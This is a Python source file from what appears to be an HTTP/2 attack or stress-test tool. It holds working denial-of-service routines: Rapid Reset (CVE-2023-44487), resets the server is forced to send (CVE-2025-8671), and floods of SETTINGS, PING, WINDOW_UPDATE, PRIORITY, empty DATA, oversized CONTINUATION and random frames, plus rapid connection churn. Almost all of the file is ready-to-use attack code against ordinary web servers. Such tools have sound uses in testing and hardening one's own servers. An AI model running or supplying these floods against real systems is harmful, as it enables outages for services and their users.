"""Attacks that send as many frames as the server takes."""

from __future__ import annotations

import random
import struct
from typing import TYPE_CHECKING

from attack import http2
from attack.http2 import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    HEADERS,
    PING,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    call_fields,
    frame,
)
from attack.payloads import short_request

if TYPE_CHECKING:
    from collections.abc import Callable

    from attack.raider import Raid, Raider

_CONNECTIONS = 4
_FRAMES = 500
_CANCEL = struct.pack(">I", 8)
_CALL = call_fields()


def reset_headers(raid: Raid) -> None:
    """Rapid reset (CVE-2023-44487): HEADERS and RST_STREAM, again and again."""

    def make(raider: Raider) -> tuple[bytes, int]:
        streams = [raider.next_stream() for _ in range(_FRAMES)]
        return b"".join(
            frame(HEADERS, END_HEADERS, stream, _CALL) + frame(RST_STREAM, 0, stream, _CANCEL)
            for stream in streams
        ), _FRAMES

    raid.flood(_CONNECTIONS, make)


def reset_requests(raid: Raid) -> None:
    """Rapid reset of complete requests, each of which would start a generation."""
    _whole_requests(raid, lambda stream: frame(RST_STREAM, 0, stream, _CANCEL))


def made_resets(raid: Raid) -> None:
    """Resets that the server is made to send (CVE-2025-8671), by a WINDOW_UPDATE of 0."""
    _whole_requests(raid, lambda stream: frame(WINDOW_UPDATE, 0, stream, bytes(4)))


def _whole_requests(raid: Raid, end: Callable[[int], bytes]) -> None:
    body = http2.message(short_request())

    def make(raider: Raider) -> tuple[bytes, int]:
        count = min(_FRAMES, raider.window // len(body))
        raider.window -= count * len(body)
        streams = [raider.next_stream() for _ in range(count)]
        return b"".join(
            frame(HEADERS, END_HEADERS, stream, _CALL) + http2.data_frames(stream, body) + end(stream)
            for stream in streams
        ), count

    raid.flood(_CONNECTIONS, make)


def settings(raid: Raid) -> None:
    """SETTINGS, each of which must be acknowledged."""
    _same(raid, frame(SETTINGS, payload=struct.pack(">HI", 4, 65_535)))


def pings(raid: Raid) -> None:
    """PING, each of which must be answered."""
    _same(raid, frame(PING, payload=bytes(8)))


def window_updates(raid: Raid) -> None:
    """WINDOW_UPDATE of one byte for the connection."""
    _same(raid, frame(WINDOW_UPDATE, payload=struct.pack(">I", 1)))


def priorities(raid: Raid) -> None:
    """PRIORITY of streams that do not exist."""
    _same(raid, frame(PRIORITY, stream=1, payload=struct.pack(">IB", 0, 1)))


def empty_data(raid: Raid) -> None:
    """DATA without bytes, which no flow control counts."""

    def make(raider: Raider) -> tuple[bytes, int]:
        begin = b"" if raider.last_stream > 0 else frame(HEADERS, END_HEADERS, raider.next_stream(), _CALL)
        return begin + frame(DATA, stream=raider.last_stream) * _FRAMES, _FRAMES

    raid.flood(_CONNECTIONS, make)


def continuations(raid: Raid) -> None:
    """HEADERS without an end, and CONTINUATION frames of the largest size after it."""
    more = http2.fields([("x-padding", "x" * 1000)]) * 16
    again = frame(CONTINUATION, 0, 1, more[: http2.MAX_FRAME])

    def make(raider: Raider) -> tuple[bytes, int]:
        begin = b"" if raider.last_stream > 0 else frame(HEADERS, 0, raider.next_stream(), _CALL)
        return begin + again * 20, 20

    raid.flood(_CONNECTIONS, make)


def garbage(raid: Raid) -> None:
    """Frames of random kinds, flags, streams and bytes, each on a connection of its own."""
    chance = random.Random(1)

    def make(raider: Raider) -> tuple[bytes, int]:
        del raider  # each frame is random
        return b"".join(_random_frame(chance) for _ in range(20)), 20

    raid.flood(_CONNECTIONS, make)


def _random_frame(chance: random.Random) -> bytes:
    payload = chance.randbytes(chance.randrange(99))
    return frame(chance.randrange(12), chance.randrange(256), chance.randrange(9), payload)


def connections(raid: Raid) -> None:
    """Connections that are closed as soon as they are open."""
    while not raid.over:
        for raider in raid.keep(20):
            raid.counts.actions += 1
            raid.wait(0)
            raid.drop(raider)


def _same(raid: Raid, one: bytes) -> None:
    """Repeats one frame."""
    raid.flood(_CONNECTIONS, lambda _: (one * _FRAMES, _FRAMES))
